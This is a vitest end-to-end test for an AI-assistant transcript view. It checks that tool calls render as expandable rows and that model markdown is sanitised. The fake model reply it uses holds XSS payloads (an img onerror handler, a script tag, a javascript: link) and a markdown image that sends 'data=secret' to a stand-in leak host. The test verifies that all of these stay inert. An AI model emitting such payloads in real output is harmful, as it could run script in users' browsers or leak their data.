/**
 * The transcript as a person reads it: a tool call is one row that expands to its result,
 * and the model's markdown renders with no raw HTML, no image loaded from anywhere (its URL
 * is shown as text), no script run, inert non-https links and highlighted code.
 */
import { describe, expect, test } from 'vitest';
import { useWorld } from './harness/e2e-world.js';
import { visible } from './harness/gatehouse-page.js';

const world = useWorld('transcript');

describe('the transcript', () => {
  test('a tool call is a row that expands; markdown is rendered safely with highlighted code', async () => {
    const { ui, fake } = world;
    const ws = await world.folders.workspace('transcript-ws', { 'a.txt': 'contents of a\n' });
    const leak = `${fake.url}/leak`;
    const markdown = [
      'Here is **the summary**.',
      '',
      `<img src="${leak}-raw.png" onerror="window.__pwned=1"><script>window.__pwned=2</script>`,
      '',
      `![secret](${leak}-md.png?data=secret)`,
      '',
      '[inert link](javascript:window.__pwned=3) and [docs](https://example.com/docs)',
      '',
      '```ts',
      'export function add(a: number, b: number): number {',
      '  return a + b;',
      '}',
      '```',
    ].join('\n');
    fake.enqueue({ toolCalls: [{ name: 'read_file', input: { path: 'a.txt' } }] }, { text: markdown });
    await ui.openWorkspace(ws);
    await ui.send('Read a and summarise');

    await visible(ui.page.locator('strong').filter({ hasText: 'the summary' }), 'markdown bold as <strong>');
    await visible(ui.page.locator('pre code [class*="hljs-"]'), 'the code block highlighted (hljs token classes)');
    await visible(ui.page.getByText(`${leak}-md.png?data=secret`, { exact: false }), "the image's URL, shown as text");
    expect(await ui.page.locator('main img, [role="main"] img, img[src*="leak"]').count()).toBe(0);
    expect(fake.requests.filter((r) => r.path.includes('leak')).map((r) => r.path)).toEqual([]);

    await ui.page.getByText('inert link').first().click();
    expect(await ui.page.evaluate('window.__pwned')).toBeUndefined();

    const row = await visible(
      ui.page.getByRole('button').filter({ hasText: 'read_file' }),
      'the read_file call as one row (a button)',
    );
    expect(await ui.page.getByText('contents of a').count()).toBe(0);
    await row.click();
    await visible(ui.page.getByText('contents of a'), 'the read_file result after expanding the row');
    await world.shot('transcript');
    expect(fake.pending()).toBe(0);
  });
});
